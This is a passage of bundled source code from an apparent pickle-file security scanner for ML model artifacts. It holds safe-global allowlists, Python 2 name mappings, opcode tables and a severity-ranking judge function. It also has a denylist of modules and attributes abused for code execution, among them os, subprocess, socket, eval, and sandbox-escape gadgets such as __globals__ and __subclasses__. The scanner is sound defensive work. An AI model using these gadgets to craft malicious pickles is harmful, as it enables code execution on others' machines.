].map((d) => `torch.${d}`);
var TORCH_REBUILD = [
  "_rebuild_tensor",
  "_rebuild_tensor_v2",
  "_rebuild_tensor_v3",
  "_rebuild_parameter",
  "_rebuild_parameter_with_state",
  "_rebuild_qtensor",
  "_rebuild_sparse_tensor",
  "_rebuild_sparse_csr_tensor",
  "_rebuild_nested_tensor",
  "_rebuild_device_tensor_from_numpy",
  "_rebuild_meta_tensor_no_storage",
  "_rebuild_wrapper_subclass",
  "_rebuild_device_tensor_from_cpu_tensor"
].map((f) => `torch._utils.${f}`);
var TORCH_MISC = [
  "torch.Size",
  "torch.device",
  "torch.dtype",
  "torch.Tensor",
  "torch._tensor.Tensor",
  "torch.nn.parameter.Parameter",
  "torch.nn.Parameter",
  "torch.storage.UntypedStorage",
  "torch.UntypedStorage",
  "torch.storage.TypedStorage",
  "torch.TypedStorage",
  "torch.storage._TypedStorage",
  "torch._tensor._rebuild_from_type_v2",
  "torch.per_tensor_affine",
  "torch.per_channel_affine",
  "torch.per_tensor_symmetric",
  "torch.per_channel_symmetric",
  "torch.per_channel_affine_float_qparams",
  "torch.contiguous_format",
  "torch.channels_last",
  "torch.channels_last_3d",
  "torch.preserve_format",
  "torch.strided",
  "torch.sparse_coo",
  "torch.sparse_csr",
  "torch.sparse_csc",
  "torch.sparse_bsr",
  "torch.sparse_bsc",
  "torch._mkldnn",
  "torch.serialization._get_layout"
];
var PYTHON_BUILTINS2 = [
  "set",
  "frozenset",
  "list",
  "dict",
  "tuple",
  "complex",
  "bytearray",
  "bytes",
  "slice",
  "range",
  "bool",
  "int",
  "float",
  "str",
  "object",
  "NoneType",
  "Ellipsis",
  "NotImplemented"
].map((b) => `builtins.${b}`);
var NUMPY = [
  "numpy.core.multiarray._reconstruct",
  "numpy.core.multiarray.scalar",
  "numpy._core.multiarray._reconstruct",
  "numpy._core.multiarray.scalar",
  "numpy.ndarray",
  "numpy.dtype",
  "numpy.core.numeric._frombuffer",
  "numpy._core.numeric._frombuffer",
  "numpy.dtypes.*",
  "numpy.ma.core._mareconstruct",
  ...[
    "bool_",
    "int8",
    "int16",
    "int32",
    "int64",
    "uint8",
    "uint16",
    "uint32",
    "uint64",
    "float16",
    "float32",
    "float64",
    "longdouble",
    "complex64",
    "complex128",
    "clongdouble",
    "str_",
    "bytes_",
    "void",
    "object_",
    "datetime64",
    "timedelta64",
    "intc",
    "uintc",
    "longlong",
    "ulonglong"
  ].map((t) => `numpy.${t}`)
];
var STDLIB = [
  "collections.OrderedDict",
  "collections.Counter",
  "collections.defaultdict",
  "collections.deque",
  "_codecs.encode",
  "codecs.encode",
  "copyreg._reconstructor",
  "copyreg.__newobj__",
  "copyreg.__newobj_ex__",
  "datetime.datetime",
  "datetime.date",
  "datetime.time",
  "datetime.timedelta",
  "datetime.timezone",
  "decimal.Decimal",
  "fractions.Fraction",
  "uuid.UUID",
  "enum.Enum"
];
var JOBLIB = [
  "joblib.numpy_pickle.NumpyArrayWrapper",
  "joblib.numpy_pickle_compat.NDArrayWrapper",
  "joblib.numpy_pickle_compat.ZNDArrayWrapper"
];
var ALLOWLIST = [
  ...TORCH_STORAGE_TYPES,
  ...TORCH_DTYPES,
  ...TORCH_REBUILD,
  ...TORCH_MISC,
  ...PYTHON_BUILTINS2,
  ...NUMPY,
  ...STDLIB,
  ...JOBLIB
];
var ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS = /* @__PURE__ */ new Set([
  "copyreg._reconstructor",
  "copyreg.__newobj__",
  "copyreg.__newobj_ex__",
  "collections.defaultdict"
]);

// src/artifacts/pickle/compat-mapping.ts
var IMPORT_MAPPING = /* @__PURE__ */ new Map([
  ["__builtin__", "builtins"],
  ["copy_reg", "copyreg"],
  ["Queue", "queue"],
  ["SocketServer", "socketserver"],
  ["ConfigParser", "configparser"],
  ["repr", "reprlib"],
  ["tkFileDialog", "tkinter.filedialog"],
  ["tkSimpleDialog", "tkinter.simpledialog"],
  ["tkColorChooser", "tkinter.colorchooser"],
  ["tkCommonDialog", "tkinter.commondialog"],
  ["Dialog", "tkinter.dialog"],
  ["Tkdnd", "tkinter.dnd"],
  ["tkFont", "tkinter.font"],
  ["tkMessageBox", "tkinter.messagebox"],
  ["ScrolledText", "tkinter.scrolledtext"],
  ["Tkconstants", "tkinter.constants"],
  ["Tix", "tkinter.tix"],
  ["ttk", "tkinter.ttk"],
  ["Tkinter", "tkinter"],
  ["markupbase", "_markupbase"],
  ["_winreg", "winreg"],
  ["thread", "_thread"],
  ["dummy_thread", "_dummy_thread"],
  ["dbhash", "dbm.bsd"],
  ["dumbdbm", "dbm.dumb"],
  ["dbm", "dbm.ndbm"],
  ["gdbm", "dbm.gnu"],
  ["xmlrpclib", "xmlrpc.client"],
  ["SimpleXMLRPCServer", "xmlrpc.server"],
  ["httplib", "http.client"],
  ["htmlentitydefs", "html.entities"],
  ["HTMLParser", "html.parser"],
  ["Cookie", "http.cookies"],
  ["cookielib", "http.cookiejar"],
  ["BaseHTTPServer", "http.server"],
  ["test.test_support", "test.support"],
  ["commands", "subprocess"],
  ["urlparse", "urllib.parse"],
  ["robotparser", "urllib.robotparser"],
  ["urllib2", "urllib.request"],
  ["anydbm", "dbm"],
  ["_abcoll", "collections.abc"],
  ["cPickle", "pickle"],
  ["_elementtree", "xml.etree.ElementTree"],
  ["FileDialog", "tkinter.filedialog"],
  ["SimpleDialog", "tkinter.simpledialog"],
  ["DocXMLRPCServer", "xmlrpc.server"],
  ["SimpleHTTPServer", "http.server"],
  ["CGIHTTPServer", "http.server"],
  ["UserDict", "collections"],
  ["UserList", "collections"],
  ["UserString", "collections"],
  ["whichdb", "dbm"],
  ["StringIO", "io"],
  ["cStringIO", "io"]
]);
var NAME_MAPPING = /* @__PURE__ */ new Map([
  ["__builtin__\0xrange", ["builtins", "range"]],
  ["__builtin__\0reduce", ["functools", "reduce"]],
  ["__builtin__\0intern", ["sys", "intern"]],
  ["__builtin__\0unichr", ["builtins", "chr"]],
  ["__builtin__\0unicode", ["builtins", "str"]],
  ["__builtin__\0long", ["builtins", "int"]],
  ["itertools\0izip", ["builtins", "zip"]],
  ["itertools\0imap", ["builtins", "map"]],
  ["itertools\0ifilter", ["builtins", "filter"]],
  ["itertools\0ifilterfalse", ["itertools", "filterfalse"]],
  ["itertools\0izip_longest", ["itertools", "zip_longest"]],
  ["UserDict\0IterableUserDict", ["collections", "UserDict"]],
  ["UserList\0UserList", ["collections", "UserList"]],
  ["UserString\0UserString", ["collections", "UserString"]],
  ["whichdb\0whichdb", ["dbm", "whichdb"]],
  ["_socket\0fromfd", ["socket", "fromfd"]],
  ["_multiprocessing\0Connection", ["multiprocessing.connection", "Connection"]],
  ["multiprocessing.process\0Process", ["multiprocessing.context", "Process"]],
  ["multiprocessing.forking\0Popen", ["multiprocessing.popen_fork", "Popen"]],
  ["urllib\0ContentTooShortError", ["urllib.error", "ContentTooShortError"]],
  ["urllib\0getproxies", ["urllib.request", "getproxies"]],
  ["urllib\0pathname2url", ["urllib.request", "pathname2url"]],
  ["urllib\0quote_plus", ["urllib.parse", "quote_plus"]],
  ["urllib\0quote", ["urllib.parse", "quote"]],
  ["urllib\0unquote_plus", ["urllib.parse", "unquote_plus"]],
  ["urllib\0unquote", ["urllib.parse", "unquote"]],
  ["urllib\0url2pathname", ["urllib.request", "url2pathname"]],
  ["urllib\0urlcleanup", ["urllib.request", "urlcleanup"]],
  ["urllib\0urlencode", ["urllib.parse", "urlencode"]],
  ["urllib\0urlopen", ["urllib.request", "urlopen"]],
  ["urllib\0urlretrieve", ["urllib.request", "urlretrieve"]],
  ["urllib2\0HTTPError", ["urllib.error", "HTTPError"]],
  ["urllib2\0URLError", ["urllib.error", "URLError"]],
  ["exceptions\0ArithmeticError", ["builtins", "ArithmeticError"]],
  ["exceptions\0AssertionError", ["builtins", "AssertionError"]],
  ["exceptions\0AttributeError", ["builtins", "AttributeError"]],
  ["exceptions\0BaseException", ["builtins", "BaseException"]],
  ["exceptions\0BufferError", ["builtins", "BufferError"]],
  ["exceptions\0BytesWarning", ["builtins", "BytesWarning"]],
  ["exceptions\0DeprecationWarning", ["builtins", "DeprecationWarning"]],
  ["exceptions\0EOFError", ["builtins", "EOFError"]],
  ["exceptions\0EnvironmentError", ["builtins", "EnvironmentError"]],
  ["exceptions\0Exception", ["builtins", "Exception"]],
  ["exceptions\0FloatingPointError", ["builtins", "FloatingPointError"]],
  ["exceptions\0FutureWarning", ["builtins", "FutureWarning"]],
  ["exceptions\0GeneratorExit", ["builtins", "GeneratorExit"]],
  ["exceptions\0IOError", ["builtins", "IOError"]],
  ["exceptions\0ImportError", ["builtins", "ImportError"]],
  ["exceptions\0ImportWarning", ["builtins", "ImportWarning"]],
  ["exceptions\0IndentationError", ["builtins", "IndentationError"]],
  ["exceptions\0IndexError", ["builtins", "IndexError"]],
  ["exceptions\0KeyError", ["builtins", "KeyError"]],
  ["exceptions\0KeyboardInterrupt", ["builtins", "KeyboardInterrupt"]],
  ["exceptions\0LookupError", ["builtins", "LookupError"]],
  ["exceptions\0MemoryError", ["builtins", "MemoryError"]],
  ["exceptions\0NameError", ["builtins", "NameError"]],
  ["exceptions\0NotImplementedError", ["builtins", "NotImplementedError"]],
  ["exceptions\0OSError", ["builtins", "OSError"]],
  ["exceptions\0OverflowError", ["builtins", "OverflowError"]],
  ["exceptions\0PendingDeprecationWarning", ["builtins", "PendingDeprecationWarning"]],
  ["exceptions\0ReferenceError", ["builtins", "ReferenceError"]],
  ["exceptions\0RuntimeError", ["builtins", "RuntimeError"]],
  ["exceptions\0RuntimeWarning", ["builtins", "RuntimeWarning"]],
  ["exceptions\0StopIteration", ["builtins", "StopIteration"]],
  ["exceptions\0SyntaxError", ["builtins", "SyntaxError"]],
  ["exceptions\0SyntaxWarning", ["builtins", "SyntaxWarning"]],
  ["exceptions\0SystemError", ["builtins", "SystemError"]],
  ["exceptions\0SystemExit", ["builtins", "SystemExit"]],
  ["exceptions\0TabError", ["builtins", "TabError"]],
  ["exceptions\0TypeError", ["builtins", "TypeError"]],
  ["exceptions\0UnboundLocalError", ["builtins", "UnboundLocalError"]],
  ["exceptions\0UnicodeDecodeError", ["builtins", "UnicodeDecodeError"]],
  ["exceptions\0UnicodeEncodeError", ["builtins", "UnicodeEncodeError"]],
  ["exceptions\0UnicodeError", ["builtins", "UnicodeError"]],
  ["exceptions\0UnicodeTranslateError", ["builtins", "UnicodeTranslateError"]],
  ["exceptions\0UnicodeWarning", ["builtins", "UnicodeWarning"]],
  ["exceptions\0UserWarning", ["builtins", "UserWarning"]],
  ["exceptions\0ValueError", ["builtins", "ValueError"]],
  ["exceptions\0Warning", ["builtins", "Warning"]],
  ["exceptions\0ZeroDivisionError", ["builtins", "ZeroDivisionError"]],
  ["multiprocessing\0AuthenticationError", ["multiprocessing.context", "AuthenticationError"]],
  ["multiprocessing\0BufferTooShort", ["multiprocessing.context", "BufferTooShort"]],
  ["multiprocessing\0ProcessError", ["multiprocessing.context", "ProcessError"]],
  ["multiprocessing\0TimeoutError", ["multiprocessing.context", "TimeoutError"]],
  ["__builtin__\0basestring", ["builtins", "str"]],
  ["exceptions\0StandardError", ["builtins", "Exception"]],
  ["UserDict\0UserDict", ["collections", "UserDict"]],
  ["socket\0_socketobject", ["socket", "SocketType"]]
]);

// src/artifacts/pickle/denylist.ts
var CMD = "runs shell commands or programs";
var CODE = "evaluates or compiles arbitrary Python code";
var ATTR = "reaches arbitrary attributes (gadget for calling anything)";
var IMPORT = "imports arbitrary modules";
var LOADS = "deserializes nested data (nested pickle or unsafe loader)";
var NET = "performs network access";
var FILE = "reads, writes or deletes files";
var DEBUG = "debugger/profiler/REPL entry point that runs code";
var NATIVE = "loads native code or manipulates memory";
var INSTALL = "installs packages or runs build scripts";
var PROC = "spawns processes, threads or signal handlers";
function group(reason2, names) {
  return names.map((name2) => ({ name: name2, reason: reason2 }));
}
var DENYLIST = [
  ...group(CMD, [
    "os",
    "posix",
    "nt",
    "subprocess",
    "commands",
    "popen2",
    "pty",
    "_posixsubprocess",
    "asyncio.subprocess",
    "asyncio.create_subprocess_exec",
    "asyncio.create_subprocess_shell",
    "asyncio.base_events",
    "asyncio.unix_events",
    "asyncio.windows_events",
    "platform.popen",
    "pexpect",
    "sh",
    "plumbum",
    "fabric",
    "paramiko",
    "invoke",
    "uuid._get_command_stdout"
  ]),
  ...group(CODE, [
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.execfile",
    "builtins.apply",
    "builtins.breakpoint",
    "builtins.input",
    "builtins.raw_input",
    "builtins.help",
    "builtins.exit",
    "builtins.quit",
    "code",
    "codeop",
    "runpy",
    "types.CodeType",
    "types.FunctionType",
    "types.LambdaType",
    "types.MethodType",
    "types.ModuleType",
    "marshal",
    "timeit",
    "doctest",
    "pydoc",
    "pydoc_data",
    "idlelib",
    "lib2to3",
    "numpy.testing._private.utils.runstring",
    "numpy.f2py",
    "numpy.distutils",
    "IPython",
    "jinja2",
    "torch._inductor",
    "torch.jit",
    "torch.package",
    "torch.utils.cpp_extension",
    "torch._dynamo",
    "torch.fx.experimental.symbolic_shapes",
    "torch.compile",
    "torch._C._jit_script_compile",
    "torch.testing._internal",
    "keras.layers.Lambda",
    "tensorflow.keras.layers.Lambda",
    "tf_keras.layers.Lambda",
    "tensorflow.python.ops.script_ops",
    "tensorflow.io",
    "tensorflow.compat.v1.py_func",
    "tensorflow.py_function",
    "tensorflow.numpy_function",
    "dill._dill._create_function",
    "dill._dill._create_code",
    "dill._dill._load_type",
    "dill.source",
    "cloudpickle.cloudpickle._make_function",
    "cloudpickle.cloudpickle._builtin_type",
    "cloudpickle.cloudpickle_fast",
    "sympy.parsing",
    "sympy.sympify",
    "pandas.eval",
    "pandas.core.computation",
    "numexpr"
  ]),
  ...group(ATTR, [
    "builtins.getattr",
    "builtins.setattr",
    "builtins.delattr",
    "builtins.globals",
    "builtins.locals",
    "builtins.vars",
    "builtins.__builtins__",
    "builtins.__loader__",
    "operator.attrgetter",
    "operator.methodcaller",
    "operator.getitem",
    "operator.setitem",
    "operator.delitem",
    "operator.call",
    "_operator.attrgetter",
    "_operator.methodcaller",
    "_operator.getitem",
    "functools.partial",
    "functools.reduce",
    "functools.partialmethod",
    "functools.singledispatch",
    "functools.update_wrapper",
    "_functools",
    "inspect",
    "gc",
    "sys",
    "copyreg.add_extension",
    "copyreg.constructor",
    "copyreg.pickle",
    "_thread",
    "site"
  ]),
  ...group(IMPORT, [
    "importlib",
    "builtins.__import__",
    "imp",
    "pkgutil",
    "zipimport",
    "modulefinder",
    "builtins.__build_class__",
    "_imp",
    "_frozen_importlib",
    "_frozen_importlib_external"
  ]),
  ...group(LOADS, [
    "pickle",
    "_pickle",
    "cPickle",
    "pickletools",
    "dill",
    "cloudpickle",
    "jsonpickle",
    "shelve",
    // joblib's array wrappers (NumpyArrayWrapper, NDArrayWrapper) are plain data; its loaders and workers are not.
    "joblib.load",
    "joblib.numpy_pickle.load",
    "joblib.numpy_pickle._unpickle",
    "joblib.numpy_pickle.NumpyUnpickler",
    "joblib.numpy_pickle_compat.load_compatibility",
    "joblib.memory",
    "joblib.Memory",
    "joblib.parallel",
    "joblib.Parallel",
    "joblib.delayed",
    "joblib._parallel_backends",
    "joblib.pool",
    "joblib._store_backends",
    "joblib.externals",
    "joblib.func_inspect",
    "joblib.hashing",
    "dbm",
    "torch.load",
    "torch.serialization",
    "torch.storage._load_from_bytes",
    "torch._weights_only_unpickler",
    "torch.hub",
    "torch.utils.model_zoo",
    "torch.distributed.rpc",
    "torch.multiprocessing",
    "numpy.load",
    "numpy.lib.npyio",
    "numpy.lib.format.read_array",
    "numpy.loads",
    "numpy.core.numeric.loads",
    "numpy.ma.core.loads",
    "pandas.read_pickle",
    "pandas.io.pickle",
    "pandas.compat.pickle_compat",
    "yaml.load",
    "yaml.load_all",
    "yaml.unsafe_load",
    "yaml.unsafe_load_all",
    "yaml.full_load",
    "yaml.full_load_all",
    "yaml.UnsafeLoader",
    "yaml.Loader",
    "yaml.FullLoader",
    "ruamel.yaml",
    "xmlrpc",
    "xmlrpclib",
    "sklearn.externals.joblib",
    "keras.models.load_model",
    "keras.saving",
    "tensorflow.keras.models.load_model",
    "skops.io.load",
    "hydra.utils.instantiate"
  ]),
  ...group(NET, [
    "socket",
    "_socket",
    "socketserver",
    "ssl",
    "requests",
    "httpx",
    "aiohttp",
    "urllib3",
    "urllib.request",
    "urllib2",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "httplib",
    "http.client",
    "http.server",
    "ftplib",
    "smtplib",
    "poplib",
    "imaplib",
    "nntplib",
    "telnetlib",
    "webbrowser",
    "asyncio.open_connection",
    "asyncio.start_server",
    "asyncio.streams",
    "wsgiref"
  ]),
  ...group(FILE, [
    "builtins.open",
    "builtins.file",
    "io.open",
    "io.open_code",
    "io.FileIO",
    "io.TextIOWrapper",
    "io.BufferedReader",
    "io.BufferedWriter",
    "io.BufferedRandom",
    "_io",
    "codecs.open",
    "codecs.StreamReaderWriter",
    "shutil",
    "tempfile",
    "fileinput",
    "zipfile",
    "tarfile",
    "gzip.open",
    "bz2.open",
    "lzma.open",
    "mmap",
    "fcntl",
    "numpy.save",
    "numpy.savetxt",
    "numpy.fromfile",
    "numpy.memmap",
    "numpy.ndarray.tofile",
    "torch.save",
    "logging.FileHandler",
    "logging.config"
  ]),
  ...group(DEBUG, [
    "pdb",
    "bdb",
    "trace",
    "cProfile",
    "profile",
    "pstats",
    "tracemalloc",
    "faulthandler",
    "rlcompleter",
    "readline",
    "cmd",
    "atexit"
  ]),
  ...group(NATIVE, [
    "ctypes",
    "_ctypes",
    "cffi",
    "numpy.ctypeslib",
    "torch.ops.load_library",
    "torch.classes.load_library",
    "torch.library",
    "torch.cuda._utils",
    "resource"
  ]),
  ...group(INSTALL, [
    "pip",
    "setuptools",
    "distutils",
    "ensurepip",
    "venv",
    "virtualenv",
    "pkg_resources",
    "conda"
  ]),
  ...group(PROC, [
    "multiprocessing",
    "_multiprocessing",
    "concurrent.futures",
    "threading",
    "signal",
    "_signal",
    "asyncio.run",
    "asyncio.get_event_loop",
    "sched"
  ])
];
var DANGEROUS_ATTRIBUTES = /* @__PURE__ */ new Set([
  "__globals__",
  "__builtins__",
  "__subclasses__",
  "__code__",
  "__closure__",
  "__func__",
  "__self__",
  "__getattribute__",
  "__getattr__",
  "__setattr__",
  "__delattr__",
  "__import__",
  "__loader__",
  "__spec__",
  "__reduce__",
  "__reduce_ex__",
  "__class__",
  "__base__",
  "__bases__",
  "__mro__",
  "__dict__",
  "__init_subclass__",
  "__call__",
  "f_globals",
  "f_locals",
  "f_builtins",
  "gi_frame",
  "tb_frame",
  "co_code"
]);
var MODULE_ATTRIBUTES = /* @__PURE__ */ new Set([
  "os",
  "posix",
  "nt",
  "subprocess",
  "sys",
  "builtins",
  "importlib",
  "ctypes",
  "pickle",
  "_pickle",
  "marshal",
  "shutil",
  "socket",
  "pty",
  "runpy",
  "multiprocessing"
]);
var BUILTINS_ALIASES = /* @__PURE__ */ new Set(["builtins", "__builtin__", "__builtins__"]);

// src/artifacts/pickle/names.ts
var MAX_PARTS = 32;
function normalizeGlobal(module2, name2, protocol) {
  let m = module2;
  let n = name2;
  if (protocol < 3) {
    const mapped = NAME_MAPPING.get(`${m}\0${n}`);
    if (mapped !== void 0) {
      m = mapped[0];
      n = mapped[1];
    } else {
      m = IMPORT_MAPPING.get(m) ?? m;
    }
  }
  if (BUILTINS_ALIASES.has(m)) m = "builtins";
  return { module: m, name: n, qualified: `${m}.${n}` };
}
var DENY_REASONS = new Map(DENYLIST.map((e) => [e.name, e.reason]));
function lookupChain(parts2, from, to) {
  let chain = BUILTINS_ALIASES.has(parts2[from]) ? "builtins" : parts2[from];
  for (let i2 = from; i2 <= to; i2++) {
    if (i2 > from) chain += "." + parts2[i2];
    const reason2 = DENY_REASONS.get(chain);
    if (reason2 !== void 0) return { entry: chain, reason: reason2 };
  }
  return void 0;
}
function matchDenylist(module2, name2) {
  const moduleParts = module2.split(".");
  const nameParts = name2.split(".");
  const parts2 = moduleParts.concat(nameParts).slice(0, MAX_PARTS);
  const fromRoot = lookupChain(parts2, 0, parts2.length - 1);
  if (fromRoot !== void 0) return fromRoot;
  const firstNamePart = moduleParts.length;
  for (let j = firstNamePart; j < parts2.length; j++) {
    if (DANGEROUS_ATTRIBUTES.has(parts2[j])) {
      return { entry: parts2[j], reason: "traverses interpreter internals (sandbox-escape gadget)" };
    }
  }
  for (let j = firstNamePart; j < parts2.length - 1; j++) {
    const inner = lookupChain(parts2, j, parts2.length - 1);
    if (inner !== void 0) return inner;
  }
  const last = parts2[parts2.length - 1];
  if (parts2.length > firstNamePart && MODULE_ATTRIBUTES.has(last)) {
    return lookupChain(parts2, parts2.length - 1, parts2.length - 1) ?? { entry: last, reason: "reaches a dangerous module" };
  }
  return void 0;
}
var GlobalSet = class {
  exact = /* @__PURE__ */ new Set();
  prefixes = [];
  constructor(entries) {
    for (const e of entries) {
      if (e.endsWith(".*")) this.prefixes.push(e.slice(0, -1));
      else this.exact.add(e);
    }
  }
  has(qualified) {
    if (this.exact.has(qualified)) return true;
    for (const p of this.prefixes) if (qualified.startsWith(p)) return true;
    return false;
  }
};

// src/artifacts/pickle/policy.ts
var SEVERITY_RANK = { critical: 4, high: 3, medium: 2, low: 1 };
var MAX_ISSUES = 1e3;
var CLASS_ARG_HELPERS = ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS;
var allowCache = /* @__PURE__ */ new WeakMap();
function allowSet(extra) {
  let set = allowCache.get(extra);
  if (set === void 0) {
    set = new GlobalSet([...ALLOWLIST, ...extra]);
    allowCache.set(extra, set);
  }
  return set;
}
function maxSeverity(issues) {
  let best;
  for (const i2 of issues) if (best === void 0 || SEVERITY_RANK[i2.severity] > SEVERITY_RANK[best]) best = i2.severity;
  return best;
}
function judge(trace, options) {
  const a = trace.analysis;
  const issues = [];
  const add = (issue) => {
    if (issues.length < MAX_ISSUES) issues.push(issue);
  };
  const allowlist = options.policy === "allowlist" ? allowSet(options.allowGlobals) : void 0;
  const deny = [];
  const reportedUnknown = /* @__PURE__ */ new Set();
  for (let i2 = 0; i2 < a.imports.length; i2++) {
    const imp = a.imports[i2];
    deny.push(void 0);
    if (imp.dynamic) {
      add({
        kind: "dynamic-global",
        severity: "critical",
        message: `STACK_GLOBAL with non-constant operands (${imp.module}, ${imp.name}): the imported name is computed at load time`,
        offset: imp.offset
      });
      continue;
    }
    if (imp.opcode.startsWith("EXT")) {
      add({
        kind: "extension-code",
        severity: "critical",
        message: `${imp.opcode} ${imp.name} imports whatever the copyreg extension registry maps that code to`,
        offset: imp.offset
      });
      continue;
    }
    const [module2, name2] = trace.importNormalized[i2];
    const match = matchDenylist(imp.module, imp.name) ?? matchDenylist(module2, name2);
    deny[i2] = match;
    if (match !== void 0) {
      const used = trace.importUsedAt[i2] >= 0 || trace.argScanExhausted;
      if (!used) {
        add({
          kind: "dangerous-import",
          severity: "high",
          message: `Imports ${imp.normalized} (${match.reason}) via ${imp.opcode}`,
          global: imp.normalized,
          offset: imp.offset
        });
      } else if (trace.importCalledAt[i2] < 0) {
        add({
          kind: "dangerous-call",
          severity: "critical",
          message: `Passes ${imp.normalized} (${match.reason}) into a call that may invoke it`,
          global: imp.normalized,
          offset: trace.importUsedAt[i2] >= 0 ? trace.importUsedAt[i2] : imp.offset
        });
      }
    } else if (allowlist !== void 0 && !allowlist.has(imp.normalized) && !reportedUnknown.has(imp.normalized)) {
      reportedUnknown.add(imp.normalized);
      add({
        kind: "unknown-global",
        severity: "medium",
        message: `Imports ${imp.normalized}, which is not on the allowlist`,
        global: imp.normalized,
        offset: imp.offset
      });
    }
  }
  for (let c = 0; c < a.calls.length; c++) {
    const call = a.calls[c];
    if (call.opcode === "BUILD") continue;
    const imp = trace.callCallee[c];
    const match = imp >= 0 ? deny[imp] : void 0;
    if (match !== void 0) {
      add({
        kind: "dangerous-call",
        severity: "critical",
        message: `Calls ${call.callee}(${call.args}) via ${call.opcode}: ${match.reason}`,
        global: call.callee,
        offset: call.offset
      });
    } else if (allowlist !== void 0 && imp < 0) {
      add({
        kind: "unknown-global",
        severity: "medium",
        message: `${call.opcode} calls a value that is not an allowlisted global`,
        offset: call.offset
      });
    }
  }
  for (const m of trace.mutations) {
    const imp = a.imports[m.imp];
    add({
      kind: "module-mutation",
      severity: "critical",
      message: `BUILD sets attributes on the module/class/function ${imp.normalized} itself`,
      global: imp.normalized,
      offset: m.offset
    });
  }
  if (allowlist !== void 0) {
    for (const u of trace.unsafeClassArgs) {
      add({
        kind: "unknown-global",
        severity: "medium",
        message: `${u.callee} is called with a class argument that is not a plain global`,
        global: u.callee,
        offset: u.offset
      });
    }
  }
  for (const n of a.nested) {
    const severity = maxSeverity(n.analysis.issues);
    if (severity !== void 0) {
      add({
        kind: "nested-pickle",
        severity,
        message: `A pickle embedded in a loads-like call argument is dangerous: ${n.analysis.issues[0].message}`,
        global: n.analysis.issues[0].global,
        offset: n.offset
      });
    }
  }
  if (trace.stoppedBy === "limit" && a.imports.length === 0) {
    add({
      kind: "uninspectable",
      severity: "medium",
      message: `Analysis stopped at a limit (${a.error?.message ?? "limit reached"}); the rest of the pickle was not inspected`,
      offset: a.error?.offset
    });
  }
  if (a.error !== void 0 && a.imports.length > 0) {
    add({
      kind: "malformed",
      severity: "high",
      message: `The pickle is malformed after referencing globals (${a.error.message}); loaders may still run what comes before the error`,
      offset: a.error.offset
    });
  }
  return issues;
}

// src/artifacts/pickle/opcodes.ts
var OP = {
  MARK: 40,
  // (
  STOP: 46,
  // .
  POP: 48,
  // 0
  POP_MARK: 49,
  // 1
  DUP: 50,
  // 2
  FLOAT: 70,
  // F
  INT: 73,
  // I
  BININT: 74,
  // J
  BININT1: 75,
  // K
  LONG: 76,
  // L
  BININT2: 77,
  // M
  NONE: 78,
  // N
  PERSID: 80,
  // P
  BINPERSID: 81,
  // Q
  REDUCE: 82,
  // R
  STRING: 83,
  // S
  BINSTRING: 84,
  // T
  SHORT_BINSTRING: 85,
  // U
  UNICODE: 86,
  // V
  BINUNICODE: 88,
  // X
  APPEND: 97,
  // a
  BUILD: 98,
  // b
  GLOBAL: 99,
  // c
  DICT: 100,
  // d
  EMPTY_DICT: 125,
  // }
  APPENDS: 101,
  // e
  GET: 103,
  // g
  BINGET: 104,
  // h
  INST: 105,
  // i
  LONG_BINGET: 106,
  // j
  LIST: 108,
  // l
  EMPTY_LIST: 93,
  // ]
  OBJ: 111,
  // o
  PUT: 112,
  // p
  BINPUT: 113,
  // q
  LONG_BINPUT: 114,
  // r
  SETITEM: 115,
  // s
  TUPLE: 116,
  // t
  EMPTY_TUPLE: 41,
  // )
  SETITEMS: 117,
  // u
  BINFLOAT: 71,
  // G
  // protocol 2
  PROTO: 128,
  NEWOBJ: 129,
  EXT1: 130,
  EXT2: 131,
  EXT4: 132,
  TUPLE1: 133,
  TUPLE2: 134,
  TUPLE3: 135,
  NEWTRUE: 136,
  NEWFALSE: 137,
  LONG1: 138,
  LONG4: 139,
  // protocol 3
  BINBYTES: 66,
  // B
  SHORT_BINBYTES: 67,
  // C
  // protocol 4
  SHORT_BINUNICODE: 140,
  BINUNICODE8: 141,
  BINBYTES8: 142,
  EMPTY_SET: 143,
  ADDITEMS: 144,
  FROZENSET: 145,
  NEWOBJ_EX: 146,
  STACK_GLOBAL: 147,
  MEMOIZE: 148,
  FRAME: 149,
  // protocol 5
  BYTEARRAY8: 150,
  NEXT_BUFFER: 151,
  READONLY_BUFFER: 152
};
var OPCODE_NAMES = (() => {
  const names = new Array(256).fill(void 0);
  for (const [name2, code3] of Object.entries(OP)) names[code3] = name2;
  return names;
})();
var HIGHEST_PROTOCOL = 5;

// src/artifacts/pickle/decode.ts
function latin12(bytes) {
  let out2 = "";
  const CHUNK = 8192;
  for (let i2 = 0; i2 < bytes.length; i2 += CHUNK) {
    out2 += String.fromCharCode.apply(null, bytes.subarray(i2, i2 + CHUNK));
  }
  return out2;
}
function digitValue(c) {
  if (c >= 48 && c <= 57) return c - 48;
  if (c >= 97 && c <= 122) return c - 87;
  if (c >= 65 && c <= 90) return c - 55;
  return 99;
}
function isSpace(c) {
  return c === 32 || c >= 9 && c <= 13;
}
function parsePythonInt(text) {
  let i2 = 0;
  let end = text.length;
  while (i2 < end && isSpace(text.charCodeAt(i2))) i2++;
  while (end > i2 && isSpace(text.charCodeAt(end - 1))) end--;
  let negative = false;
  const sign = text.charCodeAt(i2);
  if (sign === 43 || sign === 45) {
    negative = sign === 45;
    i2++;
  }
  let base = 10;
  if (end - i2 > 2 && text.charCodeAt(i2) === 48) {
    const p = text.charCodeAt(i2 + 1) | 32;
    if (p === 120) base = 16;
    else if (p === 111) base = 8;
    else if (p === 98) base = 2;
    if (base !== 10) {
      i2 += 2;
      if (text.charCodeAt(i2) === 95) i2++;
    }
  }
  if (i2 >= end) return null;
  let small = 0;
  let big = null;
  let prevUnderscore = true;
  for (; i2 < end; i2++) {
    const c = text.charCodeAt(i2);
    if (c === 95) {
      if (prevUnderscore) return null;
      prevUnderscore = true;
      continue;
    }
    const d = digitValue(c);
    if (d >= base) return null;
    prevUnderscore = false;
    if (big === null) {
      small = small * base + d;
      if (small > Number.MAX_SAFE_INTEGER / 64) big = BigInt(small);
    } else {
      big = big * BigInt(base) + BigInt(d);
    }
  }
  if (prevUnderscore) return null;
  if (big === null) return negative ? -small : small;
  const v = negative ? -big : big;
  const n = Number(v);
  return Number.isSafeInteger(n) ? n : v;
}
function parsePythonFloat(text) {
  const t = text.trim().replace(/_/g, "").toLowerCase();
  const body2 = t.startsWith("-") || t.startsWith("+") ? t.slice(1) : t;
